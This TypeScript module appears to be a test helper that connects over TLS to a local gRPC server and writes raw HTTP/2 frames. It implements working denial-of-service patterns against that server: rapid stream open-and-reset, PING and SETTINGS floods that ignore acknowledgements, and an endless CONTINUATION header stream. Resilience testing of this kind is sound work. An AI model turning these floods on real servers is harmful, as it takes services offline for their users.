// HTTP/2 as a program speaks it that means harm: frames are written as they are, and nothing of a stream is kept.
import { setImmediate } from 'node:timers/promises';
import { connect } from 'node:tls';

/** With what a member connects. */
export interface RawIdentity {
  certificate: string;
  privateKey: string;
  authority: string;
}

/** How a call begins. */
export interface RawCall {
  path: string;
  /** Further headers. */
  headers?: Record<string, string>;
  /** The one message, as hex digits, with which the call is complete. Default: none comes. */
  message?: string;
}

/** A connection of frames. */
export interface RawHttp2 {
  /** Begins so many calls, of which no more is sent than the call says; `reset` ends each at once. */
  begin(call: RawCall, count: number, reset?: boolean): void;
  /** Sends frames without end that each ask for work, and reads no answers, until the server closes the connection. Resolves to how many. */
  flood(kind: FrameFlood): Promise<number>;
  /** How many calls the server ended. */
  readonly endedCount: number;
  /** Settles when the connection is closed. */
  readonly closed: Promise<void>;
  close(): void;
}

/** Pings and settings, which are to be acknowledged; or the headers of one call, which never end. */
export type FrameFlood = 'ping' | 'settings' | 'continuation';

const frameType = { data: 0, headers: 1, resetStream: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const framesPerWrite = 1_000;
const flag = { acknowledge: 1, endStream: 1, endHeaders: 4 };
const cancel = Buffer.from('00000008', 'hex');

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A string of HPACK, as it is. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) + 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

/** Headers of HPACK, none of which are remembered. */
function headerBlock({ path, headers = {} }: RawCall): Buffer {
  const literal = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
  const all = {
    ':path': path,
    ':authority': 'localhost',
    'content-type': 'application/grpc',
    te: 'trailers',
    ...headers,
  };
  // `:method: POST` and `:scheme: https` of the static table.
  return Buffer.concat([
    Buffer.from([0x83, 0x87]),
    ...Object.entries(all).map(([name, value]) => literal(name, value)),
  ]);
}

/** A message behind the prefix of gRPC. */
function framed(message: Buffer): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(message.length, 1);
  return Buffer.concat([prefix, message]);
}

function floodFrame(kind: FrameFlood, stream: number): Buffer {
  if (kind === 'ping') return frame(frameType.ping, 0, 0, Buffer.alloc(8));
  if (kind === 'settings') return frame(frameType.settings, 0, 0, Buffer.from('000300000064', 'hex'));
  const header = Buffer.concat([Buffer.from([0]), text('x'), text('y'.repeat(1_000))]);
  return frame(frameType.continuation, 0, stream, header);
}

/** Connects. Rejects when there is no connection of TLS. */
export async function connectFrames(
  port: number,
  servername: string,
  { certificate, privateKey, authority }: RawIdentity,
): Promise<RawHttp2> {
  const connected = Promise.withResolvers<void>();
  const ended = Promise.withResolvers<void>();
  const options = { cert: certificate, key: privateKey, ca: authority, servername, ALPNProtocols: ['h2'] };
  const socket = connect({ host: '127.0.0.1', port, ...options }, () => connected.resolve());
  socket.on('error', connected.reject);
  socket.once('close', () => {
    connected.reject(new Error('closed'));
    ended.resolve();
  });
  await connected.promise;
  let nextStream = 1;
  let endedCount = 0;
  let pending = Buffer.alloc(0);
  socket.on('data', (data) => {
    pending = Buffer.concat([pending, data]);
    for (; pending.length >= 9; ) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) return;
      const [type, flags] = [pending[3], pending[4] ?? 0];
      const payload = Buffer.from(pending.subarray(9, 9 + length));
      pending = pending.subarray(9 + length);
      if (type === frameType.ping && (flags & flag.acknowledge) === 0) {
        socket.write(frame(frameType.ping, flag.acknowledge, 0, payload));
      }
      if (type === frameType.headers && (flags & flag.endStream) !== 0) endedCount += 1;
    }
  });
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(frame(frameType.settings, 0, 0, Buffer.alloc(0)));
  // So many bytes of answers may come that nobody has to ask for more.
  socket.write(frame(frameType.windowUpdate, 0, 0, Buffer.from('7fff0000', 'hex')));
  return {
    begin(call, count, reset = false) {
      const block = headerBlock(call);
      const { message } = call;
      const frames: Buffer[] = [];
      for (let at = 0; at < count; at += 1) {
        frames.push(frame(frameType.headers, flag.endHeaders, nextStream, block));
        if (message !== undefined) {
          frames.push(frame(frameType.data, flag.endStream, nextStream, framed(Buffer.from(message, 'hex'))));
        }
        if (reset) frames.push(frame(frameType.resetStream, 0, nextStream, cancel));
        nextStream += 2;
      }
      socket.write(Buffer.concat(frames));
    },
    async flood(kind) {
      socket.pause();
      let sent = 0;
      let isClosed = false;
      // A socket that nobody reads does not say that the other end has gone, but what is written to it does.
      socket.once('error', () => socket.destroy());
      const over = ended.promise.then(() => {
        isClosed = true;
      });
      if (kind === 'continuation') socket.write(frame(frameType.headers, 0, nextStream, Buffer.from([0x83, 0x87])));
      const frames = Buffer.concat(Array<Buffer>(framesPerWrite).fill(floodFrame(kind, nextStream)));
      while (!isClosed) {
        sent += framesPerWrite;
        await Promise.race([over, new Promise((resolve) => socket.write(frames, resolve))]);
        // A write to a socket that is destroyed fails before it is told that it was.
        await setImmediate();
      }
      return sent;
    },
    get endedCount() {
      return endedCount;
    },
    closed: ended.promise,
    close: () => socket.destroy(),
  };
}
